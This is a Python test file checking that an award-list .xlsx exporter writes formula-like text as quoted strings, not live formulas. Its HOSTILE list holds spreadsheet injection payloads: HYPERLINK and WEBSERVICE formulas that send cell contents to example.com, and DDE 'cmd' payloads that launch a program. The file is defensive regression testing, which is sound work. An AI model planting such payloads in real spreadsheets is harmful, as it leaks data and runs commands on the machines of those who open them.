"""Issue 9, item 6: text that looks like a formula is written to the .xlsx as text."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from desktop.documents.official.award_list_xlsx import award_list_xlsx
from desktop.domain.clean import clean
from desktop.domain.records import Award
from desktop.domain.text import normalize
from tests.documents.records import state_decision

# The reproduction: these became live formulas in the commendation list of the first release.
HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.com/"&B7)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _hostile_decision():  # type: ignore[no-untyped-def]
    decision = state_decision(people=1)
    for index, text in enumerate(HOSTILE):
        decision.awards.append(
            Award("person", text, title=text, unit=text, reason=text, position=10 + index)
        )
    decision.reason = '=WEBSERVICE("http://example.com")'
    return decision


def test_formula_like_text_stays_text_as_typed() -> None:
    data = award_list_xlsx(clean(_hostile_decision()))  # documents take records as stored
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    for typed in HOSTILE:
        text = normalize(typed)  # the list prints normalised text: "\t=1+1" is "=1+1"
        shown = [c for c in cells if c.value == text]
        # The name cell, and the reason cell: the text reads back exactly as typed …
        assert len(shown) >= 2, text
        for cell in shown:
            # … as a string, with Excel's quote prefix so that editing it keeps it text.
            assert cell.data_type == "s", (text, cell.coordinate)
            assert cell.quotePrefix, (text, cell.coordinate)
    # Title and unit share one "Chức vụ, đơn vị" cell (equal, they are written once): it starts
    # with the hostile title and is kept as text too.
    joined = [c for c in cells if c.value.startswith("=cmd|")]
    assert joined and all(c.data_type == "s" and c.quotePrefix for c in joined)


def test_the_workbook_has_no_formula_at_all() -> None:
    data = award_list_xlsx(clean(_hostile_decision()))  # documents take records as stored
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name
        # The hostile text is there, as text.
        everything = "".join(archive.read(n).decode("utf-8", "replace") for n in sheets)
        everything += (
            archive.read("xl/sharedStrings.xml").decode("utf-8")
            if ("xl/sharedStrings.xml" in archive.namelist())
            else ""
        )
        assert "WEBSERVICE" in everything and "HYPERLINK" in everything


def test_ordinary_text_keeps_no_quote_prefix() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(award_list_xlsx(state_decision()))).active
    assert sheet is not None
    assert not any(c.quotePrefix for row in sheet.iter_rows() for c in row)
